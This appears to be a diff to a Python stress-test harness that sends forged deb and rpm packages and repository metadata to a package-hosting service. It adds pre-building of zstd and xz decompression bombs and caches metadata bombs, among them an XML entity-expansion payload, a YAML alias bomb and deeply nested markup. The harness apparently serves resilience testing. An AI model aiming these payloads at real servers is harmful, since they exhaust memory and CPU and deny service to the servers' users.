@@ -111,7 +111,7 @@ def xz_bomb_data(name: str) -> tuple[str, bytes]:
 
 
 def zstd_control(name: str) -> tuple[str, bytes]:
-    tar = packages.tar([("./control", forged_deb.control(name)), ("./md5sums", bytes(60 * MEBIBYTE))])
+    tar = packages.tar([("./control", forged_deb.control(name)), ("./md5sums", bytes(30 * MEBIBYTE))])
     return forged_deb.deb(name, control_tar=tar, control_packing="zst")
 
 
@@ -138,6 +138,11 @@ def _xz_zeros(mebibytes: int) -> bytes:
 
 def _packed_names() -> bytes:
     return _cached("names", lambda: forged_deb.packed(forged_deb.many_names(200_000), "gz"))
+
+
+def _forge_bombs() -> None:
+    _zstd_zeros(200)
+    _xz_zeros(100)
 
 
 def debs_of_control(target: Target, tally: Tally) -> None:
@@ -169,19 +174,27 @@ def wide_anchor(target: Target, tally: Tally) -> None:
         target.wait(0.2)
 
 
+_BODIES: list[bytes] = []
+
+
+def _metadata_bodies() -> list[bytes]:
+    if not _BODIES:
+        _BODIES[:] = [
+            forged_deb.packed(b"<comps>" + b" " * (60 * MEBIBYTE) + b"</comps>", "gz"),
+            forged_deb.packed(b"<comps>" + b"<group><id>a</id></group>" * (2 * MEBIBYTE) + b"</comps>", "gz"),
+            forged_deb.zstd(b"<updates>" + b" " * (200 * MEBIBYTE)),
+            b"<!DOCTYPE a [<!ENTITY a 'aaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]><comps>&b;</comps>",
+            b"---\n" + b"[" * 100_000,
+            b"<comps>" + b"<a>" * 500_000,
+            b"<comps>" + b"<group><id>a</id></group>" * 600_000 + b"</comps>",
+            b"---\na: &a [x,x,x,x]\nb: &b [*a,*a,*a,*a]\nc: [*b,*b,*b,*b]\n" * 1000,
+        ]
+    return _BODIES
+
+
 def metadata_bombs(target: Target, tally: Tally) -> None:
     """Comps, updateinfo and modules that are packed, nested or full of entities."""
-    names = ["comps", "updateinfo", "modules"]
-    bodies = [
-        forged_deb.packed(b"<comps>" + b" " * (60 * MEBIBYTE) + b"</comps>", "gz"),
-        forged_deb.packed(b"<comps>" + b"<group><id>a</id></group>" * (2 * MEBIBYTE) + b"</comps>", "gz"),
-        _cached("zstd blanks", lambda: forged_deb.zstd(b"<updates>" + b" " * (200 * MEBIBYTE))),
-        b"<!DOCTYPE a [<!ENTITY a 'aaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]><comps>&b;</comps>",
-        b"---\n" + b"[" * 100_000,
-        b"<comps>" + b"<a>" * 500_000,
-        b"<comps>" + b"<group><id>a</id></group>" * 600_000 + b"</comps>",
-        b"---\na: &a [x,x,x,x]\nb: &b [*a,*a,*a,*a]\nc: [*b,*b,*b,*b]\n" * 1000,
-    ]
+    names, bodies = ["comps", "updateinfo", "modules"], _metadata_bodies()
 
     def one(client: int) -> None:
         for number in itertools.count(client):
@@ -200,8 +213,8 @@ ATTACKS = [
     Attack("rpm-pills-ten", "ten rpms of 62 MiB in each request", ten_rpms_each, short=True),
     Attack("rpm-pills-small", "rpms of 4 MiB, four in each request of six clients", small_rpms, short=True),
     Attack("deb-control", "debs with a megabyte of control", debs_of_control, short=True),
-    Attack("deb-names", "debs with 200,000 files where contents are listed", debs_of_names, short=True),
-    Attack("decoders", "uploads at once that want the largest windows of zstd and xz", decoders, short=True),
+    Attack("deb-names", "debs with 200,000 files where contents are listed", debs_of_names, forge=_packed_names, short=True),
+    Attack("decoders", "uploads at once that want the largest windows of zstd and xz", decoders, forge=_forge_bombs, short=True),
     Attack("wide-anchor", "999 files to an anchor of 726 targets", wide_anchor, short=True),
-    Attack("metadata-bombs", "comps, updateinfo and modules that are bombs", metadata_bombs, short=True),
+    Attack("metadata-bombs", "comps, updateinfo and modules that are bombs", metadata_bombs, forge=_metadata_bodies, short=True),
 ]
